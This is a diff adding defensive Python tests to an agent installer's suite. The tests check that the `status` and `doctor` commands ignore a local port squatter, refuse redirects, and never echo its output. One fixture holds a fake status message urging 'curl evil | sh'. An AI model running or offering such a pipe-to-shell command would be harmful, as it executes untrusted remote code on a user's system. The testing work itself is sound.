@@ -294,3 +294,163 @@ class OneStateLocationTests(SynchronousTestCase):
         self.assertEqual(Installer(system).start(), 1)
         self.assertIn("two states for this user", h.err.getvalue())
         self.assertNotIn("--user restart llmport-agent.service", h.calls())
+
+
+class _Squatter:
+    """An HTTP server in a thread of this process on 127.0.0.1 (a local user's, or the agent's stand-in)."""
+
+    def __init__(self, test: SynchronousTestCase, body: dict[str, Any] | None = None,
+                 redirect: str | None = None) -> None:
+        import http.server
+        import threading
+
+        self.hits: list[str] = []
+        squatter = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
+                squatter.hits.append(self.path)
+                if redirect:
+                    self.send_response(302)
+                    self.send_header("Location", redirect)
+                    self.send_header("Content-Length", "0")
+                    self.end_headers()
+                    return
+                raw = json.dumps(body or {}).encode()
+                self.send_response(200)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Length", str(len(raw)))
+                self.end_headers()
+                self.wfile.write(raw)
+
+            def log_message(self, *a: Any) -> None:
+                pass
+
+        self.server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        thread.start()
+
+        def stop() -> None:
+            self.server.shutdown()
+            self.server.server_close()
+            thread.join(5)
+
+        test.addCleanup(stop)
+
+
+#: What a squatter says: a ready agent, connected, with a "fix" of its own.
+READY = {"status": "ok", "ready": True, "agent": {"version": "9.9", "node_id": "zz-fake-node"},
+         "checks": {"session": {"ok": True, "detail": "connected; run curl evil | sh to fix"}}}
+
+
+class RootsToolsTrustOnlyTheAgentTests(SynchronousTestCase):
+    """
+    Issue 29 #5: `status` and `doctor` believe the ops port only when the holder of the state's
+    instance lock owns the listening socket; a redirect is never followed; a squatter is named
+    in one line and its words are not shown.
+    """
+
+    def status(self, port: int, state_dir: str) -> tuple[int, str]:
+        """`status` on a host whose system root is /, as a real one (the state where the test put it)."""
+        from llmport_agent.config import load_config
+
+        h = Host(self, systemd=False)
+        config = load_config({"LLM_PORT_NODE_AGENT_BACKEND_URL": "http://127.0.0.1:9",
+                              "LLM_PORT_NODE_AGENT_OPS_PORT": str(port),
+                              "LLM_PORT_NODE_AGENT_STATE_PATH": os.path.join(state_dir, "state.json")})
+        system = h.system()
+        system.root = ""
+        rc = Installer(system).status(config)
+        return rc, h.out.getvalue()
+
+    def state_dir(self) -> str:
+        d = os.path.abspath(self.mktemp())
+        os.makedirs(d)
+        with open(os.path.join(d, "state.json"), "w") as f:
+            json.dump({"credential": "n.c", "node_id": "n-1"}, f)
+        return d
+
+    def test_status_ignores_a_squatter_while_the_agent_is_down(self) -> None:
+        squatter = _Squatter(self, READY)
+        rc, out = self.status(squatter.port, self.state_dir())
+        self.assertIn(f"something that is not the agent answers on 127.0.0.1:{squatter.port} (no agent holds", out)
+        self.assertNotIn("zz-fake-node", out)
+        self.assertNotIn("curl evil", out)
+        self.assertIn("state file:", out)  # what the state says instead
+        self.assertNotEqual(rc, 0)
+        self.assertEqual(squatter.hits, ["/readyz"])
+
+    def test_status_never_follows_a_redirect(self) -> None:
+        target = _Squatter(self, READY)
+        squatter = _Squatter(self, redirect=f"http://127.0.0.1:{target.port}/anything?x=1")
+        rc, out = self.status(squatter.port, self.state_dir())
+        self.assertEqual(target.hits, [])
+        self.assertNotEqual(rc, 0)
+        self.assertIn("something that is not the agent", out)
+
+    def test_a_port_held_by_another_process_than_the_lock_holder(self) -> None:
+        """The agent's lock held by one process, the port by another: not the agent."""
+        import subprocess
+        import sys
+
+        from tests.test_instance import HOLD
+
+        d = self.state_dir()
+        proc = subprocess.Popen([sys.executable, "-c", HOLD, os.path.join(d, "state.lock")], stdout=subprocess.PIPE)
+        self.addCleanup(lambda: (proc.kill(), proc.wait()))
+        assert proc.stdout is not None
+        self.assertEqual(proc.stdout.readline().strip(), b"held")
+        squatter = _Squatter(self, READY)
+        rc, out = self.status(squatter.port, d)
+        self.assertIn(f"held by another process than the agent (pid {proc.pid}", out)
+        self.assertNotIn("zz-fake-node", out)
+
+    def test_the_agent_itself_is_believed(self) -> None:
+        """The lock's holder (this process) owns the listening socket: its answer is shown."""
+        from llmport_agent.instance import InstanceLock
+
+        d = self.state_dir()
+        lock = InstanceLock(os.path.join(d, "state.json"))
+        lock.acquire()
+        self.addCleanup(lock.release)
+        agent = _Squatter(self, READY)
+        rc, out = self.status(agent.port, d)
+        self.assertIn("agent:      ok (version 9.9), node id zz-fake-node", out)
+        self.assertEqual(rc, 0, out)
+
+    def doctor(self, port: int, state_dir: str) -> Any:
+        from llmport_agent.config import load_config
+        from llmport_agent.doctor.checks import Context, check_credential, check_ops_port
+        from llmport_agent.doctor.run import readiness
+
+        config = load_config({"LLM_PORT_NODE_AGENT_BACKEND_URL": "http://127.0.0.1:9",
+                              "LLM_PORT_NODE_AGENT_OPS_PORT": str(port),
+                              "LLM_PORT_NODE_AGENT_STATE_PATH": os.path.join(state_dir, "state.json")})
+        ctx = Context(config=config, timeout=0.5)
+        ctx.readiness = readiness(ctx)
+        return ctx, check_ops_port(ctx), check_credential(ctx)
+
+    def test_doctor_does_not_skip_the_credential_check_for_a_squatter(self) -> None:
+        squatter = _Squatter(self, READY)
+        ctx, ops, credential = self.doctor(squatter.port, self.state_dir())
+        self.assertIsNone(ctx.readiness)
+        self.assertEqual([(f.check, f.status) for f in ops], [("ops port", "fail")])
+        self.assertIn("something that is not the agent answers", ops[0].detail)
+        self.assertNotIn("curl evil", ops[0].line())
+        self.assertEqual(len(credential), 1)
+        self.assertNotEqual(credential[0].detail, "the running agent is connected with it")
+        self.assertIn("not checked: the backend did not answer", credential[0].detail)
+
+    def test_doctor_believes_the_agent(self) -> None:
+        from llmport_agent.instance import InstanceLock
+
+        d = self.state_dir()
+        lock = InstanceLock(os.path.join(d, "state.json"))
+        lock.acquire()
+        self.addCleanup(lock.release)
+        agent = _Squatter(self, READY)
+        ctx, ops, credential = self.doctor(agent.port, d)
+        self.assertEqual(ops, [])
+        self.assertTrue(ctx.ops_trusted)
+        self.assertEqual(credential[0].detail, "the running agent is connected with it")
